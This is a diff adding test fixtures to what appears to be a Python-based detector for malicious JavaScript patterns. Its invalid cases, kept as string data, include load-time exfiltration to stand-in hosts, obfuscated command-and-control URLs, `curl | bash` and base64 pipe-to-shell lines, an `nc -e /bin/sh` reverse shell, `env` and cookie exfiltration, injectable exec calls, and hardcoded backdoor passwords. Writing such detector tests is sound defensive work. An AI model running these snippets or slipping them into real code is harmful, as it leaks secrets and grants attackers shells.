@@ -147,6 +147,66 @@ class JavaScriptValueChecker(TextChecker):
                 "  if (who) ctx.state.user = { id: who };\n  await next();\n});\n", "BDL602", 3, path="gateway.ts"),
         Invalid("function requireAuth(req, res, next) {\n  if (process.env.DEBUG_AUTH) return next();\n"
                 "  verifySession(req, res, next);\n}\n", "BDL602", 2, path="auth.js"),
+        # BDL401: a request while the module loads, through an alias, an immediately called function,
+        # a helper the top level calls, computed names and a callback scheduled at load
+        Invalid("const send = require('https').request;\nsend({ host: 'h.example', method: 'POST' }).end('x');\n",
+                "BDL401", 2, path="index.js"),
+        Invalid("(async () => {\n  await fetch('https://collect.example/boot', { method: 'POST' });\n})();\n", "BDL401", 2,
+                path="index.mjs"),
+        Invalid("const axios = require('axios');\nfunction register() {\n"
+                "  return axios.post('https://t.example/r', { v: 1 });\n}\nregister();\n", "BDL401", 3, path="index.js"),
+        Invalid("const h = require('ht' + 'tps');\nh['g' + 'et']('https://t.example/p');\n", "BDL401", 2, path="index.js"),
+        Invalid("setTimeout(() => navigator.sendBeacon('https://t.example/b', document.cookie), 0);\n", "BDL401", 1,
+                path="analytics.ts"),
+        # BDL403: a destination decoded through a name and an options object, reversed, from char codes;
+        # a raw IP through a constant in a template, a socket's host argument
+        Invalid("const https = require('https');\nconst H = atob('YzIuZXhhbXBsZQ==');\n"
+                "const opts = { hostname: H, path: '/u', method: 'POST' };\n"
+                "function upload(d) { https.request(opts).end(d); }\n", "BDL403", 4, path="sync.js"),
+        Invalid("function ping() {\n  const u = 'elpmaxe.2c//:sptth'.split('').reverse().join('');\n  return fetch(u);\n}\n",
+                "BDL403", 3, path="ping.js"),
+        Invalid("const axios = require('axios');\nfunction s(d) {\n"
+                "  return axios.post(String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 99, 50), d);\n}\n", "BDL403", 3,
+                path="s.js"),
+        Invalid("const C2 = '203.0.113.50';\nexport function send(d: string) {\n"
+                "  return fetch(`http://${C2}:8080/c`, { method: 'POST', body: d });\n}\n", "BDL403", 3, path="send.ts"),
+        Invalid("const net = require('net');\nfunction open() { return net.connect(4444, '198.51.100.23'); }\n", "BDL403", 2,
+                path="tunnel.js"),
+        # BDL405/402: child-process command lines judged by the shell analysis, however they are built
+        Invalid("const { execSync: run } = require('child_process');\nconst URL = 'https://get.example/i.sh';\n"
+                "function setup() { run(`curl -fsSL ${URL} | bash`); }\n", "BDL405", 3, path="setup.js"),
+        Invalid("require('child_process').exec('echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh');\n",
+                "BDL405", 1, path="postinstall.js"),
+        Invalid("const cp = require('child_process');\nfunction sh() { cp.spawn('nc', ['-e', '/bin/sh', '203.0.113.9', '4444']); }\n",
+                "BDL405", 2, path="debug.js"),
+        Invalid("const cp = require('child_process');\nfunction report() { cp.execSync('curl -s -d \"$(env)\" https://c.example/x'); }\n",
+                "BDL402", 2, path="report.js"),
+        # BDL505: promisified exec, spawn with shell: true from an options constant
+        Invalid("const { exec } = require('child_process');\nconst run = require('util').promisify(exec);\n"
+                "async function checkout(branch) {\n  await run(`git checkout ${branch}`);\n}\n", "BDL505", 4, path="git.js"),
+        Invalid("const cp = require('child_process');\nconst OPTS = { shell: true };\n"
+                "function grep(p) { return cp.spawnSync('grep -r ' + p + ' .', OPTS); }\n", "BDL505", 3, path="grep.js"),
+        # BDL501: a packer (an inline function that decodes) and a decoded string timer
+        Invalid("eval(function (p, k) {\n  return p.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) ^ k));\n"
+                "}('dkkbo', 7));\n", "BDL501", 1, path="index.js"),
+        Invalid("setTimeout(atob('Y29uc29sZS5sb2coMSk='), 10);\n", "BDL501", 1, path="index.js"),
+        # BDL601: a credential compared with a literal through a constant, a header, destructuring and
+        # decoding, a list of literals
+        Invalid("const MASTER = 'Sup3r' + 'Admin2024';\nfunction login(user, password) {\n"
+                "  return password === MASTER || bcrypt.compareSync(password, user.hash);\n}\n", "BDL601", 3,
+                path="login.js"),
+        Invalid("app.use((req, res, next) => {\n  if (req.get('x-api-key') === 'k-77f1c2e9a0') return next();\n"
+                "  res.sendStatus(401);\n});\n", "BDL601", 2, path="app.js"),
+        Invalid("function check(req) {\n  const { password } = req.body;\n"
+                "  return password == Buffer.from('b3BlbnNlc2FtZTQy', 'base64').toString();\n}\n", "BDL601", 3,
+                path="auth.js"),
+        Invalid("const ALLOWED = ['letmein99', 'r00tme!!'];\nexport const ok = (pwd: string) => ALLOWED.includes(pwd);\n",
+                "BDL601", 2, path="auth.ts"),
+        # BDL603: secret-named literals built from pieces, decoded, in a class field, as an env fallback
+        Invalid("export const config = { apiKey: 'ak_' + 'f81b2c9d44e0a7b3' };\n", "BDL603", 1, path="config.ts"),
+        Invalid("class Client {\n  private clientSecret = 'Zt7qP2vX9mK4wR8s';\n}\n", "BDL603", 2, path="client.ts"),
+        Invalid("const token = process.env.AUTH_TOKEN || 'a9f3e1c7b5d2f8e4a6c0';\n", "BDL603", 1, path="client.js"),
+        Invalid("function Db() {\n  this.password = atob('c3VwZXJzZWNyZXQtMjAyNC1wcm9k');\n}\n", "BDL603", 2, path="db.js"),
     ]
     VALID = [
         Valid(_JWT + "const ALGS = ['RS256', 'RS512'];\njwt.verify(token, publicKey, { algorithms: ALGS });\n",
@@ -220,6 +280,29 @@ class JavaScriptValueChecker(TextChecker):
               "  next();\n});\n"
               "app.get('/', (req, res) => {\n  if (req.get('x-forwarded-proto') === 'http') return res.redirect('https://a.example');\n"
               "  res.send('ok');\n});\n", "BDL602", path="app.js"),
+        Valid("const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://api.example' });\n"
+              "function load() { return fetch('/api/items'); }\nclass Feed { refresh() { return fetch('/feed'); } }\n"
+              "if (require.main === module) {\n  fetch('https://api.example/health');\n}\n"
+              "module.exports = { api, load, Feed, onClick: () => fetch('/click') };\n", "BDL401", path="client.js"),
+        Valid("const https = require('https');\nfunction push(url, data) {\n"
+              "  fetch('http://127.0.0.1:3000/health');\n  fetch(process.env.API_URL, { method: 'POST', "
+              "body: Buffer.from(data, 'base64') });\n  https.request({ hostname: 'api.example.com', path: '/v1' });\n"
+              "  return fetch(`https://${region}.api.example.com/x`);\n}\n", "BDL403", path="client.js"),
+        Valid("const cp = require('child_process');\nfunction build() {\n  cp.execSync('git rev-parse HEAD');\n"
+              "  cp.spawn('curl', ['-fsSLo', 'out.tgz', 'https://x.example/a.tgz']);\n"
+              "  return cp.execSync('npm run build', { stdio: 'inherit' });\n}\n", "BDL405", path="build.js"),
+        Valid("const { execFile } = require('child_process');\nconst run = require('util').promisify(execFile);\n"
+              "const cp = require('child_process');\nasync function log(ref) {\n  await run('git', ['log', ref]);\n"
+              "  cp.spawn('git', ['checkout', ref], { shell: false });\n}\n", "BDL505", path="git.js"),
+        Valid("const x = (function () { return 1 + 1; })();\nconst cfg = JSON.parse(atob(encoded));\n"
+              "setTimeout(() => render(cfg), 10);\n", "BDL501", path="index.js"),
+        Valid("function login(user, password, confirmPassword, token, secret) {\n  if (password === '') return false;\n"
+              "  if (secret === 'changeme') throw new Error('set JWT_SECRET');\n  if (typeof token === 'string') {}\n"
+              "  if (password !== confirmPassword) return false;\n  if (token === 'Bearer') return false;\n"
+              "  return user.role === 'admin';\n}\n", "BDL601", path="login.js"),
+        Valid("const cfg = { apiKey: process.env.API_KEY, password: 'your-password-here', tokenUrl: "
+              "'https://auth.example/oauth2/token' };\nconst stripePublishableKey = 'pk_live_51NcW2rKx7mQ0aB3dEf9GhJ';\n"
+              "const passwordField = 'password_input_1';\n", "BDL603", path="config.js"),
     ]
 
     def check(self, text: str, display: str, language: str) -> list[Finding]:
